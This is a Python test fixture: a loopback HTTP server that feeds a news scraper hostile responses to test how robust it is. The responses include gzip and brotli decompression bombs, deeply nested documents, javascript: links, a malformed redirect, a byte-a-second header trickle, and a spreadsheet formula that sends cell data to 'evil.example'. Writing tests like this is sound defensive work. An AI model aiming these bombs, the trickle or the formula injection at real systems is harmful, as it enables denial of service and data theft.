"""A loopback HTTP server that answers like an attacker's newsroom.

Each path serves one hostile body: decompression bombs, stacked encodings, dates and
characters PostgreSQL or ``datetime`` refuse, documents nested deeper than any parser
should follow, a malformed redirect and headers trickled one byte a second. Listings mix
good items with the bad one, so a test can check that the good ones survive.

Standard library (and ``brotli``) only, so the file can also be loaded on its own to
replay the same cases against another checkout of the project.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

GIB = 1 << 30
ZERO_CHUNK = b"\0" * (4 << 20)


def brotli_bomb(size: int = 4 * GIB) -> bytes:
    """``size`` zero bytes as brotli: 4 GiB fit in about 3 KB."""
    import brotli

    compressor = brotli.Compressor(quality=4, lgwin=24)
    parts = [compressor.process(ZERO_CHUNK) for _ in range(size // len(ZERO_CHUNK))]
    parts.append(compressor.finish())
    return b"".join(parts)


def gzip_bomb(size: int = GIB) -> bytes:
    """``size`` zero bytes as one gzip member: 1 GiB is about 1 MB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    parts = [compressor.compress(ZERO_CHUNK) for _ in range(size // len(ZERO_CHUNK))]
    parts.append(compressor.flush())
    return b"".join(parts)


def atom(entries: list[tuple[str, str, str]]) -> bytes:
    """An Atom feed of (title, link, updated) entries, written for these tests."""
    body = "".join(
        f"<entry><title>{title}</title><link href='{link}'/><id>{link}</id><updated>{updated}</updated>"
        f"<summary>Summary of {title}</summary></entry>"
        for title, link, updated in entries
    )
    return (
        "<?xml version='1.0' encoding='utf-8'?><feed xmlns='http://www.w3.org/2005/Atom'>"
        f"<title>Hostile newsroom</title><id>urn:hostile</id><updated>2025-11-18T09:00:00Z</updated>{body}</feed>"
    ).encode()


class HostileSite:
    """Start with ``HostileSite()``; ``url(path)`` for each case; ``close()`` at the end."""

    GOOD = ("Good item one", "Good item two")

    def __init__(self, *, trickle_seconds: float = 40.0):
        self.trickle_seconds = trickle_seconds
        self.hits: dict[str, int] = {}
        self.in_flight = 0
        self.max_in_flight = 0
        self._lock = threading.Lock()
        self.bodies: dict[str, tuple[bytes, dict[str, str]]] = {}
        owner = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def do_GET(self):  # noqa: N802 - http.server's naming
                path = self.path.split("?")[0]
                with owner._lock:
                    owner.hits[path] = owner.hits.get(path, 0) + 1
                    owner.in_flight += 1
                    owner.max_in_flight = max(owner.max_in_flight, owner.in_flight)
                try:
                    with contextlib.suppress(BrokenPipeError, ConnectionResetError, TimeoutError):
                        owner.answer(self, path)
                finally:
                    with owner._lock:
                        owner.in_flight -= 1

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.bodies = self._bodies()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def good_links(self, prefix: str) -> list[str]:
        return [self.url(f"/news/{prefix}-{n}") for n in range(1, len(self.GOOD) + 1)]

    def _bodies(self) -> dict[str, tuple[bytes, dict[str, str]]]:
        html = {"Content-Type": "text/html; charset=utf-8"}
        good = lambda prefix: list(zip(self.GOOD, self.good_links(prefix), strict=True))  # noqa: E731
        json_items = [{"title": t, "url": u, "date": "2025-11-18"} for t, u in good("json")]
        nul_items = [
            json_items[0],
            {"title": "Bad\u0000title", "url": self.url("/news/json-nul"), "date": "2025-11-18"},
            json_items[1],
        ]
        feed_entries = [(t, u, "2025-11-18T09:00:00Z") for t, u in good("feed")]
        feed_entries.insert(1, ("Year zero", self.url("/news/feed-year-zero"), "0000-01-01T00:00:00Z"))
        scheme_entries = [(t, u, "2025-11-18T09:00:00Z") for t, u in good("links")]
        scheme_entries.insert(1, ("Script link", "javascript:alert(document.domain)", "2025-11-18T09:00:00Z"))
        scheme_entries.insert(1, ("Data link", "data:text/html,hello", "2025-11-18T09:00:00Z"))
        formula = [
            (
                '=HYPERLINK(CONCAT("https://evil.example/?",A1),"Open")',
                self.url("/news/formula"),
                "2025-11-18T09:00:00Z",
            )
        ]
        article = (
            b"<html><head><title>Article</title></head><body><article><h1>Article</h1>"
            b"<p>Example Corp and Sample Labs sign a compute agreement.</p></article></body></html>"
        )
        return {
            "/robots.txt": (b"User-agent: *\nAllow: /\n", {"Content-Type": "text/plain"}),
            "/brotli-bomb": (brotli_bomb(), {**html, "Content-Encoding": "br"}),
            "/gzip-gzip": (gzip.compress(gzip_bomb()), {**html, "Content-Encoding": "gzip, gzip"}),
            "/raw-gzip": (gzip_bomb(), html),
            "/year-zero.xml": (atom(feed_entries), {"Content-Type": "application/atom+xml"}),
            "/nul.json": (json.dumps({"items": nul_items}).encode(), {"Content-Type": "application/json"}),
            "/deep.json": (b"[" * 100_000, {"Content-Type": "application/json"}),
            "/deep.html": (b"<html><body>" + b"<div>" * 100_000 + b"</body></html>", html),
            "/schemes.xml": (atom(scheme_entries), {"Content-Type": "application/atom+xml"}),
            "/formula.xml": (atom(formula), {"Content-Type": "application/atom+xml"}),
            "/article": (article, html),
        }

    def answer(self, handler: BaseHTTPRequestHandler, path: str) -> None:
        if path == "/bad-location":
            handler.send_response(302)
            handler.send_header("Location", "http:\\\\localhost/x")
            handler.send_header("Content-Length", "0")
            handler.end_headers()
            return
        if path == "/trickle":
            self._trickle(handler)
            return
        if path.startswith("/news/"):
            body, headers = self.bodies["/article"]
        elif path in self.bodies:
            body, headers = self.bodies[path]
        else:
            body, headers = b"not here", {"Content-Type": "text/plain"}
            handler.send_response(404)
            handler.send_header("Content-Length", str(len(body)))
            handler.end_headers()
            handler.wfile.write(body)
            return
        handler.send_response(200)
        for name, value in headers.items():
            handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    def _trickle(self, handler: BaseHTTPRequestHandler) -> None:
        """Status line and headers one byte a second for ``trickle_seconds``, then a page."""
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n")
        handler.wfile.flush()
        started = time.monotonic()
        line = b"X-Padding: " + b"a" * 50 + b"\r\n"
        sent = 0
        while time.monotonic() - started < self.trickle_seconds:
            handler.wfile.write(line[sent % len(line) : sent % len(line) + 1])
            handler.wfile.flush()
            sent += 1
            time.sleep(1.0)
        if sent % len(line):
            handler.wfile.write(line[sent % len(line) :])
        body = b"<html><body><p>finally</p></body></html>"
        handler.wfile.write(b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        handler.wfile.flush()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
